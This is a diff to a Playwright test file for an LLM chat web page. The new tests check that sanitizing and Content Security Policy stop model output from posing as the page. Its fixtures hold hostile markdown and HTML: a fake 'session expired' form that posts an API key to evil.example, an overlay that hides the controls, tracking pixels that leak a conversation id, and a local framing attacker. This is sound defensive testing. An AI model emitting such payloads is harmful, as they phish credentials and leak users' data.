@@ -5,6 +5,7 @@
 import assert from 'node:assert/strict'
 import { randomBytes } from 'node:crypto'
 import { existsSync, mkdirSync, rmSync } from 'node:fs'
+import { createServer } from 'node:http'
 import { dirname, join } from 'node:path'
 import { fileURLToPath } from 'node:url'
 import { after, before, test } from 'node:test'
@@ -299,7 +300,9 @@ test('answers render as Markdown with highlighted, copyable code; model output a
   assert.equal((await page.evaluate(() => navigator.clipboard.readText())).trim(), markdown.trim())
   mkdirSync(ARTIFACTS, { recursive: true })
   await page.screenshot({ path: join(ARTIFACTS, 'markdown-answer.png'), fullPage: true })
-  assert.deepEqual(problems, [])
+  // The page's policy refuses the onerror handler already while DOMPurify parses the answer (its
+  // parser document shares the policy, and Chromium reports it on the console); nothing else.
+  assert.deepEqual(problems.filter((p) => !/^console: Executing inline event handler violates .* Content Security Policy directive 'script-src 'self''/.test(p)), [])
   assert.deepEqual(failed.filter((f) => f !== 'GET /x 404'), []) // the inert <img src=x> still loads x
 })
 
@@ -456,6 +459,166 @@ test('Send is disabled while the model loads, and the page says why', async () =
   assert.ok(failed.every((f) => f === 'GET /health 503'), String(failed))
 })
 
+/** Record the page's Content-Security-Policy violations in window.__csp, from its first script on. */
+async function recordViolations() {
+  await page.addInitScript(() => {
+    window.__csp = []
+    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`))
+  })
+}
+
+// Model output that dresses up as the page: a full-window "session expired" form posting off the
+// server, an element covering the window with the page's own class and ids, a <style> hiding
+// the page's controls, a frame, and images that would tell another site who reads the answer.
+const OVERLAY = [
+  '<form action="https://evil.example/steal" method="post" style="position:fixed;inset:0;z-index:99999;background:#fff">',
+  '<h2>Session expired</h2><label>API key <input name="key" type="password"></label><button type="submit">Sign in</button></form>',
+  '',
+  '<div class="topbar" id="send" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">cover</div>',
+  '',
+  '<style>.topbar, .composer { display: none !important }</style>',
+  '',
+  '<iframe src="https://evil.example/frame"></iframe><dialog open>dialog</dialog>',
+  '',
+  '![tracker](https://evil.example/pixel.png?conversation=secret) <img src="https://evil.example/img.png" alt="html img">',
+  '',
+  'the end',
+].join('\n')
+const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
+
+/** Everything the page loads from elsewhere than `target` (answered here, never by a network). */
+async function watchForeign(target) {
+  const foreign = []
+  await page.route((url) => !url.href.startsWith(target.baseUrl) && !url.href.startsWith('data:'), (route) => {
+    foreign.push(route.request().url())
+    return route.fulfill({ status: 200, contentType: 'image/png', body: PNG })
+  })
+  return foreign
+}
+
+test('an answer cannot dress up as the page: CSP and frame headers in force, an overlay inert, no remote image loaded', async () => {
+  await newPage()
+  await recordViolations()
+  const foreign = await watchForeign(server)
+  await updateAgent({ id: 'overlay', name: 'Overlay', systemPrompt: '', markdownContext: '' }, server.baseUrl)
+  problems.length = 0
+  failed.length = 0
+  const response = await page.goto(`${server.baseUrl}/#agent=overlay`)
+  const headers = response.headers()
+  const policy = headers['content-security-policy']
+  for (const directive of ["default-src 'none'", "script-src 'self';", "style-src 'self';", "img-src 'self' data:;", "connect-src 'self';", "frame-ancestors 'none'"]) {
+    assert.ok(policy.includes(directive), `${directive} in ${policy}`)
+  }
+  assert.equal(headers['x-frame-options'], 'DENY')
+  assert.equal(headers['x-content-type-options'], 'nosniff')
+  assert.equal(headers['referrer-policy'], 'no-referrer')
+  await page.waitForSelector('body[data-ready="true"]')
+  await page.waitForSelector('#connection[data-state="open"]') // connect-src 'self' lets the socket through
+
+  await sendAndWait(OVERLAY)
+  const answer = page.locator('.message.assistant').last()
+  assert.match(await answer.locator('.text').textContent(), /Session expired[\s\S]*the end/)
+  // Nothing of the overlay is rendered as what it pretends to be.
+  for (const selector of ['form', 'input', 'button', 'style', 'iframe', 'dialog', 'img', '[style]', '[id]', '[class]:not(.remote-image)']) {
+    assert.equal(await answer.locator(`.text ${selector}`).count(), 0, selector)
+  }
+  assert.equal(await page.locator('#transcript form, #transcript input, #transcript iframe').count(), 0)
+  // Nothing in the transcript is taken out of the flow, and the page's own controls are on top.
+  const positioned = await page.$$eval('#transcript *', (nodes) => nodes.filter((n) => getComputedStyle(n).position !== 'static' && getComputedStyle(n).position !== 'relative').map((n) => n.outerHTML.slice(0, 80)))
+  assert.deepEqual(positioned, [])
+  for (const id of ['send', 'message', 'agent-select', 'new-conversation']) {
+    const topmost = await page.$eval(`#${id}`, (node) => {
+      const box = node.getBoundingClientRect()
+      return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)?.closest(`#${node.id}`) === node
+    })
+    assert.equal(topmost, true, `#${id} is covered`)
+  }
+  assert.equal(await page.locator('.topbar').isVisible(), true)
+  assert.equal(await page.locator('#composer').isVisible(), true)
+  assert.equal(await page.locator('#send').count(), 1)
+  // The images are notes that say where they are from; none was requested, nothing was blocked.
+  assert.deepEqual(await answer.locator('.text .remote-image').allTextContents(), ['[image: tracker]', '[image: html img]'])
+  assert.match(await answer.locator('.text .remote-image').first().getAttribute('title'), /Not loaded: https:\/\/evil\.example\/pixel\.png\?conversation=secret \(remote images are off/)
+  assert.deepEqual(foreign, [])
+  // The policy already refused the inline styles while DOMPurify parsed the answer (its parser
+  // document shares the page's policy); nothing else was even tried.
+  const refused = await page.evaluate(() => window.__csp.splice(0))
+  assert.ok(refused.length > 0 && refused.every((v) => /^style-src-(attr|elem) inline$/.test(v)), String(refused))
+
+  // Should anything get past the sanitizer, the policy stops it: no inline script or style
+  // attribute, no image from elsewhere.
+  const blocked = await page.evaluate(() => {
+    const script = document.createElement('script')
+    script.textContent = 'window.__inline = 1'
+    document.body.append(script)
+    document.body.insertAdjacentHTML('beforeend', '<div id="styled" style="position: fixed">x</div>')
+    const image = new Image()
+    image.src = 'https://evil.example/past-the-sanitizer.png'
+    document.body.append(image)
+    return { ran: window.__inline, position: getComputedStyle(document.getElementById('styled')).position }
+  })
+  assert.deepEqual(blocked, { ran: undefined, position: 'static' })
+  await page.waitForFunction(() => window.__csp.length >= 3)
+  assert.deepEqual((await page.evaluate(() => window.__csp)).map((v) => v.split(' ')[0]).sort(), ['img-src', 'script-src-elem', 'style-src-attr'])
+  assert.deepEqual(foreign, [])
+  assert.deepEqual(problems.filter((p) => !/Content Security Policy/.test(p)), [])
+  assert.deepEqual(failed, [])
+})
+
+test('another site cannot frame the page', async () => {
+  await newPage()
+  // Another origin on this machine (a page answered by the test itself would count as a public
+  // site, which Chromium's private-network rules stop from framing a loopback one anyway).
+  const attacker = createServer((request, response) => {
+    response.writeHead(200, { 'content-type': 'text/html' })
+    response.end(`<!doctype html><title>attacker</title><iframe id="victim" src="${server.baseUrl}/" onload="document.title = 'framed'"></iframe>`)
+  })
+  await new Promise((ok) => attacker.listen(0, '127.0.0.1', ok))
+  try {
+    await page.goto(`http://127.0.0.1:${attacker.address().port}/`)
+    await page.waitForFunction(() => document.title === 'framed')
+    // Chromium put its error page in the frame instead of ours: nothing of the page is there.
+    const frame = await (await page.$('#victim')).contentFrame()
+    assert.equal(frame.url(), 'chrome-error://chromewebdata/')
+    assert.equal(await frame.locator('#send').count(), 0)
+  } finally {
+    attacker.close()
+  }
+})
+
+test('remote images, where the server allows them, load only when the reader clicks', async () => {
+  await newPage()
+  const imaged = await startServer({ env: { STREAMING_LLM_ECHO_DELAY_MS: '5', STREAMING_LLM_PAGE_REMOTE_IMAGES: 'true' } })
+  try {
+    const foreign = await watchForeign(imaged)
+    await recordViolations()
+    await updateAgent({ id: 'pictures', name: 'Pictures', systemPrompt: '', markdownContext: '' }, imaged.baseUrl)
+    problems.length = 0
+    failed.length = 0
+    const response = await page.goto(`${imaged.baseUrl}/#agent=pictures`)
+    assert.ok(response.headers()['content-security-policy'].includes("img-src 'self' data: https:;"))
+    await page.waitForSelector('body[data-ready="true"]')
+    await page.waitForSelector('#connection[data-state="open"]')
+    await sendAndWait('![tracker](https://evil.example/pixel.png?conversation=secret) and ![plain](http://evil.example/plain.png)')
+    const answer = page.locator('.message.assistant').last()
+    assert.equal(await answer.locator('.text img').count(), 0)
+    assert.equal(await answer.locator('.text button.remote-image').textContent(), 'Show image: tracker (evil.example)')
+    assert.equal(await answer.locator('.text span.remote-image').textContent(), '[image: plain]') // http: is never shown
+    assert.deepEqual(foreign, [])
+    await answer.locator('.text button.remote-image').click()
+    await answer.locator('.text img[alt="tracker"]').waitFor()
+    assert.equal(await answer.locator('.text img').getAttribute('src'), 'https://evil.example/pixel.png?conversation=secret')
+    await page.waitForFunction(() => document.querySelector('.message.assistant:last-child img')?.complete)
+    assert.deepEqual(foreign, ['https://evil.example/pixel.png?conversation=secret'])
+    assert.deepEqual(await page.evaluate(() => window.__csp), [])
+    assert.deepEqual(problems, [])
+    assert.deepEqual(failed, [])
+  } finally {
+    await page.unrouteAll({ behavior: 'ignoreErrors' })
+    await imaged.stop()
+  }
+})
+
 test('/docs shows the OpenAPI document through the vendored swagger-ui, with no request off the server', async () => {
   await newPage()
   problems.length = 0
@@ -464,13 +627,17 @@ test('/docs shows the OpenAPI document through the vendored swagger-ui, with no 
   page.on('request', (request) => {
     if (!request.url().startsWith(server.baseUrl) && !request.url().startsWith('data:')) foreign.push(request.url())
   })
-  await page.goto(`${server.baseUrl}/docs`)
+  await recordViolations()
+  const response = await page.goto(`${server.baseUrl}/docs`)
+  assert.match(response.headers()['content-security-policy'], /script-src 'self';.*frame-ancestors 'none'/)
+  assert.equal(response.headers()['x-frame-options'], 'DENY')
   await page.waitForSelector('body[data-ready="true"]')
   await page.waitForSelector('.opblock-summary-path')
   const paths = await page.$$eval('.opblock-summary-path', (nodes) => nodes.map((n) => n.textContent.trim()))
   assert.ok(paths.some((p) => p.startsWith('/conversations/{conversation_id}')), String(paths))
   assert.ok(paths.includes('/agents'), String(paths))
   assert.deepEqual(foreign, [])
+  assert.deepEqual(await page.evaluate(() => window.__csp), []) // swagger-ui works under its policy
   assert.deepEqual(problems, [])
   assert.deepEqual(failed, [])
 })
